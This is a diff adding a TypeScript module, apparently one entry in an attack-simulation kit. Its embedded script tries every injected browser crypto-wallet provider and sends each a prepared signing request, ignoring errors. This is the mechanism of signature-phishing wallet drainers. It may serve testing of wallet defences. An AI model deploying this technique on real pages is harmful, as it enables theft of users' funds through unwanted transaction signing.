@@ -1,0 +1,18 @@
+import type { Attack } from './kit/attack.ts'
+
+export default {
+  family: 'global',
+  how: "Uses window.web3's current provider and the further providers that wallets list.",
+  script: `
+    const use = (provider) => { try { provider?.request?.(attack.sign); provider?.sendAsync?.({ id: 1, ...attack.sign }, () => {}) } catch {} }
+    use(window.web3?.currentProvider)
+    for (const each of ethereum.providers ?? []) use(each)
+    use(ethereum.selectedProvider)
+    for (const name of ['coinbaseWalletExtension', 'okxwallet', 'trustwallet', 'rabby', 'rainbow', 'phantom', 'BinanceChain', 'braveEthereum', 'metamask']) {
+      use(window[name])
+      use(window[name]?.ethereum)
+    }
+    use(window.ethereum)
+    await attack.sleep(300)
+  `,
+} satisfies Attack
